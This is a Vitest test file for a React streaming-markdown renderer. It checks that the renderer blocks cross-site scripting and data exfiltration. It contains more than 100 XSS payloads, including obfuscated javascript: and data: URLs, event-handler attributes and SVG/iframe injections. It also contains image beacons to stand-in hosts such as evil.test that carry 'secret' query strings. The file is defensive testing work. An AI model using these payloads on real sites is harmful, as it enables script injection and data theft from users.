import { cleanup, render } from '@testing-library/react'
import { StreamingMarkdown } from 'react-agent-stream'
import rehypeRaw from 'rehype-raw'
import { afterEach, describe, expect, it } from 'vitest'

declare global {
  interface Window {
    __xss?: number | undefined
  }
}

const evil = ['https://evil.test', 'http://127.0.0.1:9']
const flag = 'window.__xss=1'

// Payloads in every URL-bearing attribute, raw HTML, SVG and event handlers.
const handWritten = [
  `[a](javascript:${flag})`,
  `[b](JaVaScRiPt:${flag})`,
  `[c](vbscript:msgbox(1))`,
  `[d](data:text/html,<script>${flag}</script>)`,
  `[e](&#106;avascript:${flag})`,
  `<javascript:${flag}>`,
  `![f](${evil[0]}/img.png?leak=secret)`,
  `![g](${evil[1]}/img.png)`,
  `![h](//evil.test/proto-relative.png)`,
  `![i](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${flag}"/>)`,
  `<img src=x onerror="${flag}">`,
  `<img src="${evil[1]}/raw.png">`,
  `<picture><source srcset="${evil[1]}/srcset.png 1x"><img src="/ok.png"></picture>`,
  `<img srcset="${evil[1]}/a.png 1x, ${evil[1]}/b.png 2x">`,
  `<video poster="${evil[1]}/poster.png" src="${evil[1]}/v.mp4"></video>`,
  `<svg><script>${flag}</script><image href="${evil[1]}/svg.png"/></svg>`,
  `<svg onload="${flag}"></svg>`,
  `<iframe src="javascript:${flag}"></iframe>`,
  `<script>${flag}</script>`,
  `<a href="javascript:${flag}">raw link</a>`,
  `<form action="javascript:${flag}"><button formaction="javascript:${flag}">go</button></form>`,
  `<div style="background:url(${evil[1]}/bg.png)">styled</div>`,
  `<body background="${evil[1]}/body.png">`,
  `<a href="https://ok.dev" ping="${evil[1]}/ping">ping</a>`,
  `<blockquote cite="javascript:${flag}">q</blockquote>`,
  `<object data="${evil[1]}/o.swf"></object><embed src="${evil[1]}/e.swf">`,
  `<link rel="stylesheet" href="${evil[1]}/s.css"><meta http-equiv="refresh" content="0;url=javascript:${flag}">`,
  `<details open ontoggle="${flag}"><summary>s</summary>d</details>`,
  `[ref link][evil]\n\n[evil]: javascript:${flag}`,
  `![ref image][pic]\n\n[pic]: ${evil[1]}/ref.png`,
]

// The same scheme tricks in every URL-bearing place (obfuscated schemes x contexts).
const schemes = [
  `javascript:${flag}`,
  `JAVASCRIPT:${flag}`,
  ` javascript:${flag}`,
  `java\tscript:${flag}`,
  `java&#x09;script:${flag}`,
  `&#x6A;avascript:${flag}`,
  `&#0000106avascript:${flag}`,
  `javascript&colon;${flag}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+`,
]
const contexts: ((url: string) => string)[] = [
  (url: string) => `[link](${url})`,
  (url: string) => `![image](${url})`,
  (url: string) =>
    `[reference][r-${encodeURIComponent(url).length}]\n\n[r-${encodeURIComponent(url).length}]: ${url}`,
  (url: string) => `<a href="${url}">raw link</a>`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<form action="${url}"><button formaction="${url}">go</button></form>`,
  (url: string) => `<video poster="${url}" src="${url}"></video>`,
  (url: string) => `<svg><a href="${url}"><text>svg link</text></a></svg>`,
  (url: string) => `<iframe src="${url}"></iframe><object data="${url}"></object>`,
]
const generated = schemes.flatMap((url) => contexts.map((context) => context(url)))
const exfiltration = [
  `<div style="background-image: url('${evil[1]}/css.png')">css</div>`,
  `<span style="background:u&#114;l(${evil[1]}/entity.png)">entity</span>`,
  `![leak](${evil[0]}/?q=SECRET "title")`,
  `![leak][leak]\n\n[leak]: <${evil[0]}/ref-angle.png>`,
  `<img src="${evil[1]}%2Fencoded.png"><img src="//127.0.0.1:9/protocol-relative.png">`,
  `<source src="${evil[1]}/source.mp4"><track src="${evil[1]}/track.vtt"><audio src="${evil[1]}/a.mp3"></audio>`,
  `<input type="image" src="${evil[1]}/input.png"><embed src="${evil[1]}/embed.png">`,
  `https://evil.test/autolink.png and www.evil.test/www.png`,
]
const payloads = [...handWritten, ...generated, ...exfiltration]
const corpus = payloads.join('\n\n')

const allowedHtml = {
  img: ['src', 'srcset', 'alt', 'onerror'],
  picture: [],
  video: ['poster', 'src'],
  a: ['href', 'ping'],
  div: ['style'],
  blockquote: ['cite'],
  form: ['action'],
  button: ['formaction'],
  details: ['open', 'ontoggle'],
  summary: [],
  svg: ['onload'],
  image: ['href'],
  span: ['style'],
  iframe: ['src'],
  object: ['data'],
  input: ['type', 'src'],
  audio: ['src'],
  source: ['src', 'srcset'],
  track: ['src'],
  embed: ['src'],
  text: [],
}

function remoteRequests(): string[] {
  return performance
    .getEntriesByType('resource')
    .map((entry) => entry.name)
    .filter((name) => evil.some((origin) => name.startsWith(origin)))
}

function unsafeAttributes(root: Element): string[] {
  const found: string[] = []
  for (const element of root.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const value = attribute.value.trim().toLowerCase()
      if (attribute.name.startsWith('on')) found.push(`${element.tagName}[${attribute.name}]`)
      if (/^(javascript|vbscript|data:text)/.test(value))
        found.push(`${element.tagName}[${attribute.name}]=${value}`)
      // Text that names a URL or origin (the image placeholder's tooltip and accessible name) fetches nothing.
      const inert =
        attribute.name === 'title' ||
        attribute.name === 'aria-label' ||
        attribute.name === 'href' ||
        attribute.name.startsWith('data-')
      if (!inert && evil.some((origin) => attribute.value.includes(origin.slice(7)))) {
        found.push(`${element.tagName}[${attribute.name}]=${attribute.value}`)
      }
    }
  }
  return found
}

afterEach(() => {
  cleanup()
})

describe('StreamingMarkdown against XSS and exfiltration in Chromium', () => {
  it('covers at least 100 payloads', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(100)
  })

  it.each([
    ['default settings', {}],
    ['raw HTML allow-listed, handlers and URLs included', { allowedHtml }],
    // rehype-raw turns every raw tag into an element before the safety pass: the policy must still hold.
    [
      'rehype-raw and an app urlTransform',
      { rehypePlugins: [rehypeRaw], urlTransform: (url: string) => url.trim() },
    ],
  ])('runs no script and requests nothing from other origins (%s)', async (_name, props) => {
    window.__xss = undefined
    performance.clearResourceTimings()
    const { container, rerender } = render(<StreamingMarkdown content="" streaming {...props} />)
    for (let end = 1; end <= corpus.length; end += 7) {
      rerender(<StreamingMarkdown content={corpus.slice(0, end)} streaming {...props} />)
    }
    // A same-origin image is the control: it proves resource requests are observed here.
    rerender(
      <StreamingMarkdown content={`${corpus}\n\n![control](/control.png?${Math.random()})`} {...props} />,
    )
    await expect
      .poll(() =>
        performance.getEntriesByType('resource').some((entry) => entry.name.includes('/control.png')),
      )
      .toBe(true)
    for (const link of container.querySelectorAll('a')) {
      link.addEventListener('click', (event) => event.preventDefault())
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
    }
    for (const details of container.querySelectorAll('details')) details.open = !details.open
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)))
    expect(window.__xss).toBeUndefined()
    expect(remoteRequests()).toEqual([])
    expect(unsafeAttributes(container)).toEqual([])
    expect(container.querySelectorAll('script, iframe, object, embed, link, meta')).toHaveLength(0)
    expect(container.querySelectorAll('.ras-image-placeholder').length).toBeGreaterThanOrEqual(3)
  })

  it('loads a remote image only after the reader clicks its placeholder', async () => {
    performance.clearResourceTimings()
    const { container } = render(<StreamingMarkdown content={`![pic](${evil[1]}/clicked.png)`} />)
    const placeholder = container.querySelector<HTMLButtonElement>('.ras-image-placeholder')
    expect(placeholder).not.toBeNull()
    expect(remoteRequests()).toEqual([])
    placeholder?.click()
    await expect.poll(() => remoteRequests()).toEqual([`${evil[1]}/clicked.png`])
  })
})
